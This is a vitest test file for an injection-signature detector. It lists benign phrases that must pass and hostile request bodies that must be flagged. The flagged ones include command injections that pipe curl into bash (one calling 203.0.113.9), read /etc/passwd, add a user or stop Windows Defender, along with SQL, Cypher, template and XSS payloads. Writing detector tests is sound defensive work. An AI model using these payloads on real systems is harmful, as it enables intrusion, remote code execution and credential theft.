import { expect, test } from 'vitest';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';

function typesIn(text: string): readonly string[] {
  const request = { method: 'POST', path: '/api/notes', query: '', headers: {}, contentType: 'application/json' };
  return findSignatures({ ...request, body: JSON.stringify({ id: 3, note: text }) }).matches.map(({ type }) => type);
}

/** What people quote, and what settings name, in words that a query language has as well. */
test.each([
  '"With best wishes as ever"',
  '"Return the keys as agreed." That is what the sign says',
  '"return value: the sum of what was given as arguments"',
  '"Create (nearly) anything" is the name of the shop',
  '"Merge (later)"',
  '"For each in turn return one"',
  '"sleep (tight)"',
  '"regexp"',
  "'between'",
  'The operator "like", please',
  `<attribute name="driver" default="$\{main.class}"/>`,
  './autogen.sh && ./configure && make',
  'Why does the page use `document.cookie` instead of a store?',
  "'/' に一致しない",
  '"-"，则从标准输入读取。',
  '%s:~3 %3u ~2total,~3 %3u ~2running,~3 %3u ~2sleeping',
  'Readme contains instructions to curl | bash',
  'Add citation for curl|bash attack',
  'Sort entries in /etc/group and /etc/gshadow by GID.',
  "It doesn't use `confirm` or `alert`.",
  "A replacement for the browser's `alert`, `confirm`, and `prompt`.",
])('%s is no attack', (text) => {
  expect(typesIn(text)).toEqual([]);
});

test.each([
  ['nosql_injection', "x' with 1 as a call db.labels() yield label return label//"],
  ['nosql_injection', "' return a as b"],
  ['sql_injection', "'/'"],
  ['sql_injection', '"-" or 1=1 が'],
  ['sql_injection', "'-'あ"],
  ['sql_injection', "x'-'あいうえ"],
  ['command_injection', 'x `man -k x; cat /etc/group` を'],
  ['command_injection', 'the readme says; curl 203.0.113.9/a | bash'],
  ['command_injection', 'x;curl | bash -c id'],
  ['command_injection', 'x$(curl|sh)'],
  ['command_injection', 'x | curl|bash /tmp/a.sh'],
  ['command_injection', '%COMSPEC:~0,1%'],
  ['command_injection', '%ProgramFiles:~10,-5%whoami'],
  ['command_injection', 'sort /etc/group'],
  ['command_injection', 'Sort /etc/group /etc/gshadow'],
  ['command_injection', 'Type menu entries C:\\Windows\\win.ini'],
  ['command_injection', 'x; Net user mallory Passw0rd'],
  ['command_injection', 'x & Sc stop windefend now'],
  ['command_injection', '%COMSPEC:~0xA,1%'],
  ['command_injection', '%COMSPEC:~10 ,1%'],
  ['nosql_injection', '" return labels(n) as a, count(*) as c'],
  ['nosql_injection', "x' with n as m return m//"],
  ['nosql_injection', '"}) create (n) return n //'],
  ['nosql_injection', '" merge (n) return n //"'],
  ['sql_injection', "' sleep(5) '"],
  ['sql_injection', "'-sleep(5)-'"],
  ['sql_injection', "x' like 'x"],
  ['sql_injection', "x' or 'a' between 'a' and 'b"],
  ['template_injection', "$x.class.forName('a')"],
  ['template_injection', `$\{x.class.classLoader}`],
  ['xss', 'the names of the day `a` or `<img src=x onerror=alert(1)>` (`b`)'],
  ['command_injection', 'the names of the day `a` or `;cat /etc/passwd;` (`b`)'],
  ['command_injection', 'the name of the machine `document.cookie` ;cat /etc/passwd; of the house'],
  ['command_injection', 'x && ./configure'],
  ['command_injection', './a.sh && cat /etc/passwd'],
])('%s: what leaves its string or runs is: %s', (type, text) => {
  expect(typesIn(text)).toContain(type);
});
